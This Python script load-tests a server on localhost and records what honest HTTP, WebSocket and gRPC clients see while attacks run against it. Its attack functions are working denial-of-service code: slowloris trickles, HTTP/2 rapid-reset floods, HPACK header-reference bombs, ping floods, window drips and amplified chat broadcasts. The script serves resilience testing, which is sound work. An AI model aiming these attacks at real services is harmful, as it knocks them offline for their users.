#!/usr/bin/env python3
"""What honest clients see of the showcase while others attack it.

usage: under_attack.py SHOWCASE [ATTACK...]

For each attack a showcase of its own with one loop on core 0; attackers and honest
clients share core 1, the attackers with the lowest priority. Attackers come from
127.0.0.2, or from a thousand addresses; honest clients from 127.0.0.1. They ask on
time whether the last answer has come or not, and a time counts from when the request
was due, so that one long pause counts for everything that it kept waiting.

Prints a row of a table for each attack, and what each kind of client saw to stderr.
Needs Linux and nothing but Python. Proves nothing by itself: it measures.
"""

import json
import multiprocessing
import os
import re
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import time

from wire import Peer, request

SECONDS = float(os.environ.get("SECONDS", 8))
PATIENCE = 10  # seconds that an honest client waits for one answer
MIB = 1 << 20
ATTACKS = {}


# What both sides speak.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
GRPC = (("content-type", "application/grpc"), ("te", "trailers"))
UPGRADE = request(
    "GET", "/ws/echo", "Connection: Upgrade", "Upgrade: websocket",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13",
)  # fmt: skip


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def varint(value, prefix=7):
    """An integer, of RFC 7541 §5.1 with a prefix, of protobuf without."""
    most = (1 << prefix) - 1 if prefix else 0
    if prefix and value < most:
        return bytes([value])
    out, value = bytearray([most] if prefix else []), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def literal(name, value):
    return b"\0" + varint(len(name)) + name.encode() + varint(len(value)) + value.encode()


def ask(stream, path, method="GET", more=(), end=True):
    fields = ((":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *more)
    return frame(HEADERS, 5 if end else 4, stream, b"".join(literal(*field) for field in fields))


def message(opcode, payload):
    """One WebSocket frame of a client, whose masking key is zero."""
    length = len(payload)
    if length < 126:
        head = struct.pack(">BB", 0x80 | opcode, 0x80 | length)
    elif length < 1 << 16:
        head = struct.pack(">BBH", 0x80 | opcode, 0xFE, length)
    else:
        head = struct.pack(">BBQ", 0x80 | opcode, 0xFF, length)
    return head + bytes(4) + payload


def say(kind, **payload):
    return message(1, json.dumps({"type": kind, "payload": payload}).encode())


# Honest clients: each is opened with the port, and then asked again and again.


class Kept:
    """HTTP/1.1 on one connection."""

    every = 0.01

    def __init__(self, port):
        self.peer = Peer(f"http://127.0.0.1:{port}", PATIENCE)

    def ask(self):
        self.peer.send(request("GET", "/plaintext"))
        assert self.peer.answer().body == b"Hello, World!"

    def close(self):
        self.peer.socket.close()


class New:
    """A new connection for each request."""

    every = 0.02

    def __init__(self, port):
        self.port = port

    def ask(self):
        with Peer(f"http://127.0.0.1:{self.port}", PATIENCE) as peer:
            peer.send(request("GET", "/plaintext", "Connection: close"))
            assert peer.answer().body == b"Hello, World!"

    def close(self):
        pass


class Events(New):
    """A new event stream, up to its first event, which needs a timer."""

    def ask(self):
        with Peer(f"http://127.0.0.1:{self.port}", PATIENCE) as peer:
            peer.send(request("GET", "/sse/ticks"))
            assert peer.head().status == 200
            peer.until(b"\n\n")


class Echo(Kept):
    """A WebSocket."""

    def __init__(self, port):
        super().__init__(port)
        self.peer.send(UPGRADE)
        assert self.peer.head().status == 101

    def ask(self):
        text = b"x" * 100
        self.peer.send(message(1, text))
        while True:
            opcode, length = self.peer.take(2)
            payload = self.peer.take(length)
            if opcode == 0x81:
                break
            self.peer.send(message(0xA, payload))
        assert payload == text


class Http2(Kept):
    """HTTP/2 on one connection."""

    def __init__(self, port):
        super().__init__(port)
        self.stream = -1
        self.peer.send(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))

    def send(self):
        self.peer.send(ask(self.stream, "/plaintext"))
        return b"Hello, World!"

    def ask(self):
        self.stream += 2
        wanted, found = self.send(), b""
        while True:
            head = self.peer.take(9)
            payload = self.peer.take(int.from_bytes(head[:3], "big"))
            kind, flags, stream = struct.unpack(">BBI", head[3:])
            if kind in (SETTINGS, PING) and not flags & 1:
                self.peer.send(frame(kind, 1, 0, payload if kind == PING else b""))
            assert kind not in (RST, 7), f"frame {kind} {payload!r}"
            if stream == self.stream:
                found += payload if kind == DATA else b""
                if flags & 1 and kind in (DATA, HEADERS):
                    break
        assert found == wanted, found


class Call(Http2):
    """gRPC, a unary call on one connection."""

    def send(self):
        path = "/grpc.testing.TestService/EmptyCall"
        self.peer.send(ask(self.stream, path, "POST", GRPC, end=False) + frame(DATA, 1, self.stream, bytes(5)))
        return bytes(5)


class Upload(Kept):
    """A MiB to an echo, over HTTP/1.1."""

    every = 0.25

    def ask(self):
        self.peer.send(request("POST", "/echo", body=b"u" * MIB))
        assert len(self.peer.answer().body) == MIB


HONEST = (Kept, New, Events, Echo, Http2, Call, Upload)


def probe(kind, port, end, results):
    """Asks until `end`; reports the times in seconds and what went wrong."""
    prefer(1)
    took, wrong, client = [], [], None
    due = time.monotonic()
    while due < end.value:
        time.sleep(max(0, due - time.monotonic()))
        began = time.monotonic()
        try:
            client = client or kind(port)
            client.ask()
            taken = time.monotonic() - began
            while taken > 0:
                took.append(taken)
                taken -= kind.every
        except (OSError, EOFError, AssertionError) as error:
            wrong.append(f"{error!r} after {time.monotonic() - began:.2f} s")
            if client:
                client.close()
            client = None
        due = max(due + kind.every, time.monotonic())
    results.put((kind.__name__, took, wrong))


# Attackers.


class Attacker:
    """Connections of one attacker; `base` is the first of its addresses."""

    def __init__(self, port, end):
        self.port, self.end, self.kept = port, end, []

    def is_on(self, pause=0.0):
        time.sleep(pause)
        return time.monotonic() < self.end.value

    def connect(self, first=b"", number=0, window=None):
        """Another connection, from the address of that number; None if it is refused."""
        peer = socket.socket()
        if window:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        peer.settimeout(2)
        try:
            peer.bind((f"127.0.{number // 250}.{number % 250 + 2}", 0))
            peer.connect(("127.0.0.1", self.port))
            peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            peer.sendall(first)
        except OSError:
            peer.close()
            return None
        self.kept.append(peer)
        return peer

    def push(self, peer, data):
        """Sends what is taken now; false if the connection is gone."""
        peer.setblocking(False)
        try:
            peer.send(data)
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def pull(self, peer, most=1 << 16):
        """Reads what is there; false if the connection is gone."""
        peer.setblocking(False)
        try:
            return bool(peer.recv(most))
        except BlockingIOError:
            return True
        except OSError:
            return False

    def drop(self, peer):
        if peer in self.kept:
            self.kept.remove(peer)
        peer.close()


def attack(text):
    def register(function):
        ATTACKS[function.__name__] = (text, function)
        return function

    return register


@attack("nobody")
def nobody(attacker):
    while attacker.is_on(0.1):
        pass


def repeatedly(attacker, open_one, again, count, pause):
    """Keeps `count` connections that say `again` after each pause, and come back."""
    peers = [open_one(number) for number in range(count)]
    rounds = 0
    while attacker.is_on(pause):
        rounds += 1
        for number, peer in enumerate(peers):
            if peer is not None and not again(peer):
                attacker.drop(peer)
                peers[number] = None
            elif peer is None and number % 10 == rounds % 10:
                peers[number] = open_one(number)


@attack("1,000 heads and bodies, a byte each 100 ms")
def trickle(attacker):
    heads = (
        b"GET /plaintext HTTP/1.1\r\nHost: a\r\nX: ",
        b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n",
        UPGRADE + b"\x01\x83\0\0\0\0abc",
        UPGRADE + b"\x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff\0\0\0\0",
    )
    open_one = lambda number: attacker.connect(heads[number % 4])
    repeatedly(attacker, open_one, lambda peer: attacker.push(peer, b"x"), 1000, 0.1)


@attack("300 readers of 12 MB at 15 kB/s")
def slow_readers(attacker):
    get = request("GET", "/bytes/12000000")
    repeatedly(attacker, lambda _: attacker.connect(get, window=4096), lambda peer: attacker.pull(peer, 1500), 300, 0.1)


@attack("500 that pipeline for 20 MB and never read")
def never_read(attacker):
    gets = request("GET", "/bytes/1000000") * 20
    open_one = lambda _: attacker.connect(gets, window=4096)
    repeatedly(attacker, open_one, lambda peer: attacker.push(peer, gets), 500, 0.2)


@attack("300 that ask for files of 8 MB and never read")
def files_unread(attacker):
    gets = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 24))
    gets += b"".join(ask(1 + 2 * k, "/static/big.bin") for k in range(100))
    one = request("GET", "/static/big.bin")
    open_one = lambda number: attacker.connect(gets if number % 2 else one, window=4096)
    repeatedly(attacker, open_one, lambda peer: attacker.push(peer, frame(PING, 0, 0, bytes(8))), 300, 0.5)


def held(attacker, addresses):
    part = b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 16000000\r\n\r\n" + b"x" * 400_000
    open_one = lambda number: attacker.connect(part, number % addresses)
    repeatedly(attacker, open_one, lambda peer: attacker.pull(peer), 1000, 0.5)


@attack("1,000 bodies of 16 MB that stop at 400 kB, one address")
def bodies_held(attacker):
    held(attacker, 1)


@attack("the same from 1,000 addresses")
def bodies_held_by_many(attacker):
    held(attacker, 1000)


@attack("384 gRPC messages of 4 MB that stop before their end")
def grpc_partial(attacker):
    size = (4 << 20) - 100
    piece = b"\0" + struct.pack(">I", size) + b"x" * (size - 1)
    peers = []
    for _ in range(3):
        path = "/grpc.testing.TestService/StreamingInputCall"
        calls = b"".join(ask(1 + 2 * k, path, "POST", GRPC, end=False) for k in range(128))
        if peer := attacker.connect(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0) + calls):
            peers.append((peer, bytearray(), {0: 65535}, dict.fromkeys(range(1, 256, 2), 0)))
    while attacker.is_on(0.002):
        for peer, read, windows, sent in peers:
            peer.settimeout(0.001)
            try:
                read += peer.recv(1 << 18)
            except OSError:
                pass
            while len(read) >= 9 + (length := int.from_bytes(read[:3], "big")):
                kind, _, stream = struct.unpack(">BBI", read[3:9])
                if kind == WINDOW:
                    windows[stream] = windows.get(stream, 65535) + int.from_bytes(read[9:13], "big")
                del read[: 9 + length]
            peer.settimeout(1)
            for stream, have in sent.items():
                count = min(windows[0], windows.get(stream, 65535), 16384, size - have)
                if count <= 0:
                    continue
                try:
                    peer.sendall(frame(DATA, 0, stream, piece[have : have + count]))
                except OSError:
                    break
                windows[0] -= count
                windows[stream] = windows.get(stream, 65535) - count
                sent[stream] += count


@attack("4 × 128 calls for 4 MB each, never read, each second again")
def grpc_answers(attacker):
    body = b"\x10" + varint(4 << 20, 0)
    body = b"\0" + struct.pack(">I", len(body)) + body
    path = "/grpc.testing.TestService/UnaryCall"
    calls = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
    for stream in range(1, 257, 2):
        calls += ask(stream, path, "POST", GRPC, end=False) + frame(DATA, 1, stream, body)
    while True:
        peers = [attacker.connect(calls) for _ in range(4)]
        if not attacker.is_on(1):
            break
        for peer in filter(None, peers):
            attacker.drop(peer)


@attack("1,000 members of 64 rooms each; 200 ask for statistics 20 times a second")
def statistics(attacker):
    chat = UPGRADE.replace(b"/ws/echo", b"/ws/chat")

    def open_one(number):
        rooms = (say("room", action="join", room=f"r{number}-{room}-".ljust(128, "x")) for room in range(64))
        return attacker.connect(chat + b"".join(rooms))

    members = [open_one(number) for number in range(1000)]
    while attacker.is_on(1):
        for peer in filter(None, members[:200]):
            attacker.push(peer, say("system", command="get_stats") * 20)


@attack("500 streams of one name, and posts that name it 250,000 times")
def names(attacker):
    for _ in range(500):
        attacker.connect(request("GET", "/api/events?client_id=d"))
    body = b'{"event":"a","data":1,"target_clients":[' + b",".join([b'"d"'] * 250_000) + b"]}"
    while attacker.is_on():
        if peer := attacker.connect(request("POST", "/api/broadcast", "Connection: close", body=body)):
            peer.settimeout(1)
            try:
                peer.recv(100)
            except OSError:
                pass
            attacker.drop(peer)


@attack("500 streams, and posts to all of them without a pause")
def broadcasts(attacker):
    streams = [attacker.connect(request("GET", "/api/events")) for _ in range(500)]
    post = request("POST", "/api/broadcast", body=b'{"event":"a","data":"' + b"x" * 1000 + b'"}')
    peer = attacker.connect()
    while attacker.is_on():
        attacker.push(peer, post * 8)
        attacker.pull(peer)
        for stream in filter(None, streams):
            attacker.pull(stream)


@attack("800 connections with 64 event streams each: all timers of an address")
def timers(attacker):
    asks = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
    asks += b"".join(ask(1 + 2 * k, "/sse/ticks") for k in range(64))
    repeatedly(attacker, lambda _: attacker.connect(asks), lambda peer: attacker.pull(peer), 800, 0.1)


@attack("200 × 4 responses of 65 kB, taken a byte of window each 100 ms")
def drips(attacker):
    asks = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    asks += b"".join(ask(1 + 2 * k, "/bytes/65000") for k in range(4))
    more = b"".join(frame(WINDOW, 0, 1 + 2 * k, struct.pack(">I", 1)) for k in range(4))
    again = lambda peer: attacker.pull(peer) and attacker.push(peer, more)
    repeatedly(attacker, lambda _: attacker.connect(asks), again, 200, 0.1)


@attack("requests that are reset at once, over and over")
def rapid_reset(attacker):
    flood = PREFACE + frame(SETTINGS, 0, 0)
    for stream in range(1, 991, 2):
        flood += ask(stream, "/metrics") + frame(RST, 0, stream, b"\0\0\0\x08")
    while attacker.is_on():
        if peer := attacker.connect(flood):
            attacker.drop(peer)


@attack("500 that ask for pongs and acknowledgements and never read")
def pings(attacker):
    pings = UPGRADE + message(9, b"p" * 125) * 250
    frames = PREFACE + frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"p" * 8) * 900
    open_one = lambda number: attacker.connect(frames if number % 2 else pings, window=4096)
    while attacker.is_on():
        peers = [peer for number in range(500) if attacker.is_on() and (peer := open_one(number))]
        for peer in peers:
            attacker.drop(peer)


@attack("a MB each 300 ms to a room of 400 slow readers")
def amplified(attacker):
    join = UPGRADE.replace(b"/ws/echo", b"/ws/chat") + say("room", action="join", room="tea")
    members = [attacker.connect(join, window=4096) for _ in range(400)]
    speaker = attacker.connect(join)
    speech = say("chat", room="tea", message="m" * 1_000_000)
    while attacker.is_on(0.3):
        try:
            speaker.settimeout(2)
            speaker.sendall(speech)
            attacker.pull(speaker, 4 << 20)
        except OSError:
            attacker.drop(speaker)
            speaker = attacker.connect(join)
        for member in filter(None, members):
            attacker.pull(member, 4096)


def flooded(attacker, opening, data, count=8):
    peers = [attacker.connect(opening) for _ in range(count)]
    while attacker.is_on():
        for number, peer in enumerate(peers):
            if not peer or not attacker.push(peer, data) or not attacker.pull(peer, 1 << 20):
                if peer:
                    attacker.drop(peer)
                peers[number] = attacker.connect(opening)


@attack("pipelined requests on 8 connections, as fast as they go")
def pipelined(attacker):
    flooded(attacker, b"", request("GET", "/plaintext") * 500)


@attack("WebSocket messages on 8 connections, as fast as they go")
def messages(attacker):
    flooded(attacker, UPGRADE, message(1, b"m" * 16) * 2000)


@attack("bodies in chunks of a byte on 8 connections, as fast as they go")
def chunks(attacker):
    flooded(attacker, request("POST", "/echo", "Transfer-Encoding: chunked"), b"1\r\nx\r\n" * 10_000)


@attack("header blocks of 12,000 references each, over and over")
def references(attacker):
    entry = b"\x40" + varint(1) + b"x" + varint(3000) + b"y" * 3000
    bomb = PREFACE + frame(SETTINGS, 0, 0)
    bomb += frame(HEADERS, 5, 1, b"\x82\x86\x84\x41\x01a" + entry)
    for stream in range(3, 23, 2):
        bomb += frame(HEADERS, 5, stream, b"\x82\x86\x84\x41\x01a" + b"\xbe" * 12_000)
    while attacker.is_on():
        if peer := attacker.connect(bomb):
            attacker.pull(peer)
            attacker.drop(peer)


@attack("connections that come and go as fast as they can")
def churn(attacker):
    number = 0
    while attacker.is_on():
        number += 1
        if peer := attacker.connect(b"GET", number % 1000):
            attacker.drop(peer)


def assail(function, port, end):
    prefer(1, -10)
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
    function(Attacker(port, end))


# The measurement.


def prefer(core, weight=None):
    """Runs on this core; as root before everything that is no part of this, or, with a
    weight, beside it. (The system stops real-time processes that never rest.)"""
    if os.cpu_count() > 1:
        os.sched_setaffinity(0, {core})
    try:
        if weight is None:
            return os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))
        os.setpriority(os.PRIO_PROCESS, 0, weight)
        os.setsid()
        with open("/proc/self/autogroup", "w") as group:
            group.write(str(weight))
    except OSError:
        pass


class Server:
    """A showcase on one loop."""

    def __init__(self, showcase, files):
        command = [showcase, "--listen", "127.0.0.1:0", "--threads", "1", "--files", files]
        self.process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, preexec_fn=lambda: prefer(0, -20)
        )
        self.port = int(re.search(r":(\d+)$", self.process.stdout.readline().strip()).group(1))

    def peak(self):
        with open(f"/proc/{self.process.pid}/status") as status:
            return int(re.search(r"VmHWM:\s+(\d+)", status.read()).group(1)) / 1024

    def processor(self):
        with open(f"/proc/{self.process.pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def end(self):
        self.process.kill()
        self.process.wait()


def measure(showcase, files, name):
    text, function = ATTACKS[name]
    server = Server(showcase, files)
    end = multiprocessing.Value("d", time.monotonic() + 3600)
    results = multiprocessing.Queue()
    attacker = multiprocessing.Process(target=assail, args=(function, server.port, end))
    probes = [multiprocessing.Process(target=probe, args=(kind, server.port, end, results)) for kind in HONEST]
    began, spent = time.monotonic(), server.processor()
    attacker.start()
    for one in probes:
        one.start()
    end.value = began + SECONDS
    found = sorted((results.get() for _ in probes), key=lambda one: one[0])
    lasted = time.monotonic() - began
    peak, spent = server.peak(), server.processor() - spent
    attacker.join(PATIENCE)
    is_done = attacker.exitcode == 0
    attacker.kill()
    server.end()
    took = sorted(time for _, times, _ in found for time in times)
    failed = sum(len(wrong) for _, _, wrong in found)
    at = lambda times, part: f"{times[min(len(times) - 1, len(times) * part // 1000)] * 1000:.1f}" if times else "-"
    for kind, times, wrong in found:
        times.sort()
        shown = f"{name} {kind}: {len(times)} answered, {at(times, 500)} {at(times, 990)} {at(times, 1000)} ms"
        print(shown, *wrong[:3], sep="; ", file=sys.stderr, flush=True)
    times = [at(took, part) for part in (500, 990, 1000)]
    row = (text, len(took) + failed, failed, *times, f"{peak:.0f}", f"{100 * spent / lasted:.0f}")
    print("| " + " | ".join(map(str, row)) + " |" + ("" if is_done else " (the attacker failed)"), flush=True)


def main():
    showcase, wanted = sys.argv[1], sys.argv[2:] or list(ATTACKS)
    with tempfile.TemporaryDirectory() as files:
        with open(os.path.join(files, "big.bin"), "wb") as big:
            big.write(b"b" * 8_000_000)
        print("| attack | asked | failed | p50 ms | p99 ms | worst ms | peak MiB | core % |")
        print("|---|---|---|---|---|---|---|---|", flush=True)
        for name in wanted:
            measure(showcase, files, name)


if __name__ == "__main__":
    main()
